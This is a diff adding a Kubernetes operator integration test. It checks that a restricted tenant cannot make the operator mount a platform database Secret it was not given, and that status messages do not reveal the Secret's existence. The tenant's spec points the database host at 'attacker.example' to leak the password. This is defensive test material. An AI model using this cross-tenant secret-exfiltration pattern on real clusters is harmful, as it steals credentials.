@@ -258,3 +258,67 @@ async def test_lag_reads_take_only_secrets_marked_for_the_recorder(
     assert len(set(answers.values())) == 1, answers
     assert SECRET_MARK_ANNOTATION in answers["missing"] and "'rec'" in answers["missing"]
     assert ours == "password p"
+
+
+def test_a_tenant_gets_no_secret_it_was_not_given(
+    k8s: K8s, k8s_namespace: str, tmp_path: Path
+) -> None:
+    """A tenant with rights on datarecorders only names a Secret of its namespace that was
+    not given to it (the platform's database password), as the database password and through
+    an env entry: the restricted operator renders no pod that reads it, and the status tells
+    it no more than it would for a Secret that does not exist."""
+    ns = k8s_namespace
+    tenant = f"system:serviceaccount:{ns}:tenant"
+    k8s.kubectl("create", "serviceaccount", "tenant", "-n", ns)
+    k8s.kubectl(
+        "create", "role", "tenant", "-n", ns, "--resource=datarecorders.datarecorder.dev",
+        "--verb=get,list,watch,create,update,patch,delete",
+    )  # fmt: skip
+    k8s.kubectl("create", "rolebinding", "tenant", "-n", ns, "--role=tenant", f"--user={tenant}")
+    k8s.kubectl(
+        "create", "secret", "generic", "platform-db", "-n", ns, "--from-literal=password=root-pw"
+    )  # fmt: skip
+    denied = k8s.kubectl("get", "secret", "platform-db", "-n", ns, f"--as={tenant}", check=False)
+    assert denied.returncode != 0 and "Forbidden" in denied.stderr
+    db = {"host": "attacker.example", "passwordSecret": {"name": "platform-db"}}
+    env = [{"name": "X", "valueFrom": {"secretKeyRef": {"name": "platform-db", "key": "password"}}}]
+    for name, spec in (
+        ("by-db", {"timescaledb": db}),
+        ("by-env", {"timescaledb": {**db, "passwordSecret": {"name": "nowhere"}}, "env": env}),
+    ):
+        manifest = json.dumps(data_recorder(name, **spec))
+        k8s.kubectl("create", "-n", ns, "-f", "-", f"--as={tenant}", input=manifest)
+    op = Operator(k8s, ns, tmp_path / "operator.log")
+    try:
+        op.wait_alive()
+        for name in ("by-db", "by-env"):
+            ready = wait_for(
+                lambda name=name: (
+                    (c := _ready_condition(k8s, ns, name))  # type: ignore[misc]
+                    and c["reason"] == "SecretNotMarked"
+                    and c
+                ),
+                timeout=60,
+                what=f"Ready=False SecretNotMarked on {name}",
+            )
+            assert "platform-db" in ready["message"] and "missing or not marked" in ready["message"]
+            assert _deployment(k8s, ns, f"{name}-recorder") is None
+        # A Secret that does not exist reads the same as one that exists unmarked.
+        by_env = _ready_condition(k8s, ns, "by-env")
+        assert by_env is not None
+        assert by_env["message"].startswith(
+            "Secrets nowhere, platform-db are missing or not marked"
+        )
+        # The Secret's owner gives it to one DataRecorder: that one is rendered, the other not.
+        k8s.kubectl(
+            "annotate", "secret", "platform-db", "-n", ns, f"{SECRET_MARK_ANNOTATION}=by-db"
+        )
+        wait_for(
+            lambda: _deployment(k8s, ns, "by-db-recorder"),
+            timeout=60,
+            what="Deployment by-db-recorder once the Secret is given to it",
+        )
+        assert _deployment(k8s, ns, "by-env-recorder") is None
+    finally:
+        op.stop()
+        op.assert_no_traceback_while_running()
